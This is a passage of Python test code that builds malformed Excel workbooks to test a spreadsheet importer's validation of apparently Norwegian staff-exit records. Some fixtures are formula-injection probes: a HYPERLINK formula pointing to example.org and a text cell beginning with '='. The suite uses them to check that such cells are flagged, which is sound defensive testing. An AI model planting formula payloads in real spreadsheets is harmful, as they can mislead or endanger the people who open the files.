refused("blank workbook", "empty_file", lambda _: workbook(Sheet([])))
refused("workbook with a header only", "no_rows", lambda rng: workbook(Sheet([exits(rng).header])))
refused(
    "two sheets", "several_sheets", lambda rng: workbook(Sheet(exits(rng).all, "2023"), Sheet(exits(rng).all, "2024"))
)
refused(
    "no sheet fits",
    "no_sheet_fits",
    lambda _: workbook(Sheet([["a", "b"], ["1", "2"]], "A"), Sheet([["c"], ["3"]], "B")),
)
refused(
    "hidden sheet", "hidden_sheet", lambda rng: workbook(Sheet([], "Ark1"), Sheet(exits(rng).all, "Gamle", "hidden"))
)
refused(
    "very hidden sheet",
    "hidden_sheet",
    lambda rng: workbook(Sheet([["Hei"]], "Ark1"), Sheet(exits(rng).all, "x", "veryHidden")),
)
refused(
    "value far to the right",
    "too_many_columns",
    lambda rng: workbook(Sheet([[*cells, *[""] * 90, "x"] for cells in exits(rng).all])),
)
refused(
    "workbook of too many rows",
    "too_many_rows",
    lambda rng: workbook(Sheet([exits(rng).header, *[[one] for one in distinct(rng, 20)] * 1002])),
)


def book(name: str, write: Callable[[Table], bytes], told: Sequence[str] = (), make: Callable = exits) -> None:
    good(name, write, told=told, make=make)


def as_dates(table: Table, since_1904: bool = False) -> list[list[str | Raw]]:
    """The table with its days as serial numbers in cells that show dates, and its numbers as numbers."""
    zero = date(1904, 1, 1) if since_1904 else date(1899, 12, 30)
    rows: list[list[str | Raw]] = [list(table.header)]
    for cells in table.rows:
        found: list[str | Raw] = list(cells)
        for name in ("start", "end"):
            at = table.fields.index(name)
            day, month, year = map(int, cells[at].split("."))
            found[at] = number(str((date(year, month, day) - zero).days), DATE)
        found[table.fields.index("hours")] = number(cells[table.fields.index("hours")].replace(",", "."))
        rows.append(found)
    return rows


def texts_shared(table: Table) -> bytes:
    strings: dict[str, int] = {}
    rows = [[shared(strings.setdefault(cell, len(strings))) if cell else "" for cell in cells] for cells in table.all]
    rich = [f"<si><r><t>{text[:1]}</t></r><r><t>{text[1:]}</t></r><rPh><t>x</t></rPh></si>" for text in strings]
    return workbook(Sheet(rows), strings=rich)


book("workbook of texts", lambda table: workbook(Sheet(table.all)))
book("workbook of dates", lambda table: workbook(Sheet(as_dates(table))))
book("workbook of 1904", lambda table: workbook(Sheet(as_dates(table, True)), since_1904=True))
book("shared rich texts", texts_shared)
book(
    "strict workbook",
    lambda table: workbook(Sheet(table.all), namespace="http://purl.oclc.org/ooxml/spreadsheetml/main"),
)
book(
    "prefixed elements",
    lambda table: packed(
        parts(
            [
                Sheet(
                    [],
                    xml=sheet_xml(Sheet(table.all))
                    .replace("<", "<x:")
                    .replace("<x:/", "</x:")
                    .replace("xmlns=", "xmlns:x="),
                )
            ]
        )
    ),
)
book(
    "sheet of notes beside",
    lambda table: workbook(Sheet([["Les dette først"]], "Info"), Sheet(table.all, "Rader")),
    ["other_sheets"],
)
book(
    "hidden sheet beside",
    lambda table: workbook(Sheet(table.all), Sheet([["x"]], "Skjult", "hidden")),
    ["hidden_sheets"],
)
book("rows hidden by a filter", lambda table: workbook(Sheet(table.all, hidden=frozenset({3, 4}))), ["hidden_rows"])
book(
    "title over merged cells",
    lambda table: workbook(
        Sheet([["Avslutninger"], [], *table.all], after='<mergeCells><mergeCell ref="A1:G1"/></mergeCells>')
    ),
    ["header_below"],
)
book(
    "numbers as numbers",
    lambda table: workbook(
        Sheet([table.header, *([number(c[0]) if c[0][0] != "0" else c[0], *c[1:]] for c in table.rows)])
    ),
)


def book_value(
    name: str, field_: str, rule: str, cell: Callable[[random.Random], Raw | str], make: Callable = exits
) -> None:
    def build(rng: random.Random) -> Case:
        table = make(rng)
        row = table.any()
        rows: list[list[str | Raw]] = [list(cells) for cells in table.all]
        rows[row + 1][table.fields.index(field_)] = cell(rng)
        places = frozenset({(row + 2, field_, rule)})
        return Case(name, table.kind, workbook(Sheet(rows)), faults=places, rows=len(table.rows) - 1)

    add(name, build)


book_value("formula cell", "hours", "formula_cell", lambda rng: formula("15+22", str(rng.randrange(37))))
book_value(
    "formula cell of text",
    "end_reason",
    "formula_cell",
    lambda _: formula('HYPERLINK("http://example.org")', "IN_MOVED"),
)
book_value("text that is a formula", "name", "formula", lambda _: "=1+1", persons)
book_value("error cell", "hours", "spreadsheet_error", lambda rng: error(rng.choice(["#REF!", "#N/A", "#DIV/0!"])))
book_value("date as a number", "start", "serial_date", lambda rng: number(str(45_300 + rng.randrange(200))))
book_value(
    "date with a time in a cell", "start", "has_time", lambda rng: number(f"45306.{rng.randrange(1, 9)}", DATE_TIME)
)
book_value("29 February 1900", "start", "not_date", lambda _: number("60", DATE))
book_value("number without its zero", "number", "identifier_zero", lambda rng: number(fnr(rng, first="0")[1:]))
book_value("rounded number", "number", "scientific", lambda _: number("1.20189E+10"))
book_value("unit as a number", "unit", "unit_zero", lambda _: number("301"))
book_value("boolean as a date", "end", "not_date", lambda _: boolean(True))
book_value("NUL in a workbook", "name", "control", lambda _: "Blid_x0000_Elv", persons)
book_value("half a sign", "name", "lost_letters", lambda _: "Blid_xD800_", persons)
book_value("giant cell", "name", "too_long", lambda rng: "x" * rng.randrange(2001, 32_767), persons)
book_value("number as a name in a cell", "name", "not_name", lambda _: number("12"), persons)


@case
def merged_rows(rng: random.Random) -> Case:
    table = exits(rng, 9)
    first = rng.randrange(2, 8)
    merge = f'<mergeCells><mergeCell ref="B{first}:B{first + 2}"/></mergeCells>'
    places = frozenset((line, "", "merged") for line in range(first, first + 3))
    return Case("merged cells", "exit", workbook(Sheet(table.all, after=merge)), faults=places, rows=6)


@case
def zip_comment(rng: random.Random) -> Case:
    table = exits(rng)
    target = io.BytesIO(workbook(Sheet(table.all)))
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = b"x" * rng.randrange(1, 60_000)
    return Case("comment after the archive", "exit", target.getvalue(), rows=len(table.rows))


@case
def packed_twice(rng: random.Random) -> Case:
    """Valid deflate data that is no text."""
    return Case("zlib data", "exit", zlib.compress(noise(rng, 9000)), refused="binary")
